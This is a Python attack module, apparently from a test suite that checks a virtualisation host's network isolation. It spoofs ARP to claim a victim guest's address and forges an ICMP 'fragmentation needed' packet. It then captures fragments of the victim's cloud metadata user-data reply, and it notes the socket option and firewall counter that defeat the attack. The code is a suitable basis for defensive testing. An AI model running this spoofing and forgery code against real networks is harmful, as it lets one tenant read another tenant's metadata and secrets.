"""A neighbour has the host take replies to a victim apart, and send it the parts that bear no port.

It claims the victim's address to the host by ARP, and tells the host that a packet to that address was too large for a router (ICMP, RFC
1191), of a packet that it has made up. What a connection sends next is cut into fragments by the kernel, of which only the first says which
port it is from. Gained: most of a long reply. In the way: sockets of guests do not believe in routers (`IP_PMTUDISC_INTERFACE`), and
fragments of a metadata address leave the host by no port (chain `from_host_…`, counter `fragmented`).
"""

import os
import socket
import struct
import time

import attack
import space
import wire
from attack import Outcome
from field import METADATA, Connection, Field
from host import Host

BODY = "USER-DATA-OF-victim-1 " * 10000


class Attack(attack.Attack):
    """The forger, and victim-1, which is slow to read."""

    hosts = ("address", "redirect", "bridge", "auto")
    families = (4,)
    attackers = ("forger", "lan")
    victims = slice(1, None)
    no_proof = ("the kernel cuts what it sends next only where it has confirmed nothing since it was told, and when it does that is its own; the "
                "attack was seen to succeed before sockets were told to go by their link alone")

    @staticmethod
    def _signal(host: Host) -> str:
        return f"{host.place}/fragments-wanted"

    def prepare(self, host: Host) -> None:
        """Gives victim-1 much to read, and the host no memory of routers."""
        host.redefine(host.victims[0], host.victims[0].xml(body=BODY), BODY)
        space.call("ip", "route", "flush", "cache")

    def attack(self, field: Field) -> None:
        """Claims victim-1's address, and tells of a router once."""
        card, victim, told = wire.Wire(), field.own(field.victims[0]), False
        text = field.victims[0].address(4)
        own, gateway = "192.0.2.1", wire.ip("192.0.2.1")
        fragments, data = 0, b""
        claim = wire.arp(field.bridge, field.me.link, 2, (field.me.link, text), (field.bridge, own))
        card.send(claim)
        field.ready()
        while field.goes_on():
            card.send(claim)
            if not told and field.me.name == "forger" and os.path.exists(self._signal(field.host)):
                # An echo reply of the host's that nobody has seen.
                inner = wire.ipv4(gateway, victim, struct.pack("!BBHHH", 0, 0, 0xFFFE, 0, 1), 1)
                body = struct.pack("!BBHHH", 3, 4, 0, 0, 68) + inner
                body = body[:2] + struct.pack("!H", wire.checksum(body)) + body[4:]
                card.send(wire.ethernet(field.bridge, field.me.link, wire.IPV4, wire.ipv4(field.own(), gateway, body, 1)))
                told = True
            for frame in card.received(0.02):
                if frame[12:14] == b"\x08\0" and frame[30:34] == victim and b"USER-DATA-OF-victim-1" in frame:
                    fragments, data = fragments + 1, data + frame[34:]
        field.report |= {"told": told, "frames": fragments, "read": len(data)}

    def during(self, host: Host, outcome: Outcome) -> None:
        """Asks as victim-1, and reads all but the beginning a moment later: what is sent then is the first that the host sends since."""
        with space.inside(host.victims[0].name):
            connection = Connection(METADATA[4])
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.send(b"GET /latest/user-data HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
        time.sleep(0.7)
        with open(self._signal(host), "w", encoding="ascii"):
            time.sleep(0.7)
        status, body = connection.answer()
        connection.close()
        os.remove(self._signal(host))
        outcome.host_report |= {"status": status, "whole": body == BODY.encode(), "read": len(body)}

    def gained(self, outcome: Outcome) -> str | None:
        """Parts of the reply."""
        if not outcome.forger["told"]:
            raise space.Failure("the host was not told of a router: the attack does not work")
        for name, report in outcome.reports.items():
            if report.get("frames"):
                return f"{name} got {report['frames']} parts of victim-1's reply, with {report['read']} bytes"
        if not outcome.host_report["whole"]:
            return f"victim-1 was not answered: {outcome.host_report}"
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def restore(self, host: Host) -> None:
        """Victim-1's own data."""
        host.redefine(host.victims[0], host.victims[0].xml())
        space.call("ip", "route", "flush", "cache")
